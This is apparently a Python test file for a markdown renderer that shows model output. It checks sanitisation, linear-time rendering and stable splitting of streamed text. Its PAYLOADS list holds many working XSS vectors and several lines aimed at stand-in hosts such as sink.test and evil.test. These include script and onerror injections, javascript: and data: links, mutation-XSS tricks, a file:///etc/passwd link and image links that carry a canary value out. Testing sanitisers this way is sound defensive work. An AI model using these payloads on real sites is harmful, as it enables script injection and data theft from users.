"""Markdown of models is shown safely, fast, and the settled part of a growing text never changes."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apps.core.markdown import render, split_sealed

SAFE_HREF = re.compile(r"(https?://|mailto:|#cite-\d{1,3}$)", re.IGNORECASE)
HARMLESS = {
    "a",
    "blockquote",
    "br",
    "code",
    "del",
    "div",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
} | {
    "p",
    "pre",
    "s",
    "span",
    "strong",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
}
PAYLOADS = [
    "<script>window.__x=1</script>",
    "<img src=x onerror=window.__x=1>",
    "<svg/onload=window.__x=1>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.test/)",
    "[x](/accounts/logout/)",
    "[x](\\\\evil.test\\share)",
    "[x]( javascript:alert(1) 'title')",
    "![](http://sink.test/?q=CANARY)",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x" onerror="alert(1)](http://a.test/x.png)',
    "[x][r]\n\n[r]: http://sink.test/?q=CANARY",
    "[x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<http://a.test/?"onmouseover=alert(1)>',
    "http://sink.test/?q=CANARY",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "| <img src=x onerror=alert(1)> |\n|---|\n| <b onclick=alert(1)>x</b> |",
    "# <style>@import 'http://sink.test/'</style>",
    '<div style="background:url(http://sink.test/)">x</div>',
    "<video src=http://sink.test/><source onerror=alert(1)></video>",
    "<object data=x></object><embed src=x><base href=http://evil.test/>",
    "<form action=http://evil.test/><input name=q autofocus onfocus=alert(1)><button>x</button></form>",
    "<link rel=stylesheet href=http://sink.test/><meta http-equiv=refresh content=0;url=http://evil.test/>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[1](javascript:alert(1))",
    '[1]"onclick=alert(1)',
    '[a](http://a.test/"onclick="alert(1))',
    '[a](http://a.test/ "t\\" onclick=\\"alert(1)")',
    "{{ constructor.constructor('alert(1)')() }}",
    '<xmp><p title="</xmp><svg/onload=alert(1)>">',
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "\x00<script>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
]


class Inspector(HTMLParser):
    """Notes everything in HTML that could act."""

    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in HARMLESS:
            self.bad.append(tag)
        for name, value in attrs:
            if name not in {"href", "title", "class", "data-cite", "target", "rel", "start", "style"}:
                self.bad.append(name)
            if name == "href" and not SAFE_HREF.match(value or ""):
                self.bad.append(f"href={value}")
            if name == "style" and not re.fullmatch(r"text-align:\s?(left|right|center);?", value or ""):
                self.bad.append(f"style={value}")


def dangers(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    return inspector.bad


@pytest.mark.parametrize("payload", PAYLOADS)
def test_it_renders_payloads_as_inert_text(payload: str) -> None:
    for text in (payload, f"- {payload}", f"> {payload}", f"a\n\n{payload}\n\nb", f"**{payload}**"):
        assert dangers(render(text, {1})) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_it_renders_payloads_cut_at_any_offset_as_inert_text(payload: str) -> None:
    for end in range(len(payload)):
        assert dangers(render(payload[:end], {1})) == []
        assert dangers(render(payload[end:], {1})) == []


@given(st.text(alphabet="<>\"'[]()!`*_~|&;:/\\ \n-#=x1javscript", max_size=60))
@settings(max_examples=150, deadline=None)
def test_it_never_emits_anything_active(text: str) -> None:
    assert dangers(render(text, {1})) == []


def test_it_links_only_numbers_that_exist() -> None:
    html = render("Yes [1], no [7], code `[1]`, twice [1][2], a [1](https://a.test/) link.", {1, 2})

    assert html.count('data-cite="1"') == 2
    assert html.count('data-cite="2"') == 1
    assert "[7]" in html
    assert "<code>[1]</code>" in html
    assert 'href="https://a.test/"' in html


def test_it_shows_an_image_as_a_link_with_its_text() -> None:
    html = render("![the plan](http://sink.test/p.png)")

    assert "<img" not in html
    assert ">the plan</a>" in html
    assert 'title="http://sink.test/p.png"' in html


def test_it_protects_links_to_elsewhere() -> None:
    html = render("[x](https://a.test/?a=1&b=2)")

    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html


def test_it_renders_tables_code_and_lists() -> None:
    html = render("| a | b |\n|:--|--:|\n| 1 | 2 |\n\n```python\nx = 1\n```\n\n3. c\n4. d\n\n~~old~~ **智库**")

    assert '<div class="md-table"><table>' in html
    assert "text-align:right" in html.replace(": ", ":")
    assert '<span class="n">x</span>' in html
    assert '<ol start="3">' in html
    assert "<s>old</s>" in html
    assert "<strong>智库</strong>" in html


@pytest.mark.parametrize(
    "unit", ["a", "[", "![", "((", "!", " ", "[a](", "a|b\n-|-\n", "*a_", "`a``", "> ", "- ", "\n"]
)
def test_it_renders_a_mebibyte_of_anything_in_linear_time(unit: str) -> None:
    text = (unit * (2**20 // len(unit) + 1))[: 2**20]

    began = time.process_time()
    render(text, {1})
    split_sealed(text)

    assert time.process_time() - began < 20  # under a second when idle; a quadratic step would take hours


PIECES = st.sampled_from(
    [
        "a",
        "b [1]",
        "\n",
        "\n\n",
        "- ",
        "1. ",
        "```",
        "~~~",
        "```py",
        "  ",
        "    ",
        "> ",
        "# ",
        "|",
        "---",
        "\t",
        "`",
        "\r",
        "\u2028",
        "中文",
    ]
)


@given(st.lists(PIECES, max_size=40).map("".join), st.data())
@settings(deadline=None)
def test_it_splits_without_loss_and_never_takes_back(text: str, data: st.DataObject) -> None:
    sealed, tail = split_sealed(text)
    assert sealed + tail == text

    earlier = text[: data.draw(st.integers(0, len(text)))]
    assert sealed.startswith(split_sealed(earlier)[0])


BLOCKS = [
    "A paragraph with [1].",
    "# Title",
    "- a\n- b",
    "- a\n\n- b",
    "1. a\n\n   more\n\n2. b",
    "```py\nx = 1\n\ny = 2\n```",
    "> quote\n> more",
    "| a |\n|---|\n| 1 |",
    "~~~\n```\n\n~~~",
    "    code\n\n    code",
    "- x\n\n  ```\n  a\n\n  b\n  ```\n- y",
    "``` a ` b",
    "Setext\n===",
    "***",
    "中文段落。",
]


@given(st.lists(st.sampled_from(BLOCKS), min_size=1, max_size=7), st.data())
@settings(max_examples=60, deadline=None)
def test_it_renders_the_same_in_parts_as_at_once(blocks: list[str], data: st.DataObject) -> None:
    text = "\n\n".join(blocks) + "\n\nEnd."
    cut = data.draw(st.integers(0, len(text)))

    first = split_sealed(text[:cut])[0]
    second = split_sealed(text)[0]

    parts = [render(part, {1}) for part in (first, second[len(first) :], text[len(second) :])]
    assert "".join(parts) == render(text, {1})


def test_it_marks_stretches_of_the_text() -> None:
    text = "- **Alpha. Beta** is *here*.\n- Gamma [1]"
    html = render(text, [1], [(0, 10, "weak"), (11, 27, "unsupported")])

    assert '<li><strong><span data-support="weak">Alpha.</span> <span data-support="unsupported">Beta</span>' in html
    assert '<em><span data-support="unsupported">here</span></em>' in html
    assert "Gamma <a" in html


@pytest.mark.parametrize(
    "payload", ["<script>alert(1)</script>", "\u2e28x\u2e29", "[a](javascript:alert(1))", "`a. b`"]
)
def test_it_marks_hostile_text_without_making_it_active(payload: str) -> None:
    """A mark is put around text by brackets in it: brackets of the text itself must not open one."""
    html = render(payload, (), [(0, len(payload), 'weak"onclick="')])

    assert "onclick=" not in html
    assert "<script" not in html
    assert "\u2e28" not in html


def test_a_mark_that_ends_inside_an_address_leaves_the_link_whole() -> None:
    text = "See [it](https://a.example/?q=1) now"
    assert 'href="https://a.example/?q=1"' in render(text, (), [(0, 28, "weak")])
    assert 'href="https://a.example/?q=1"' in render(text, (), [(12, 30, "weak")])
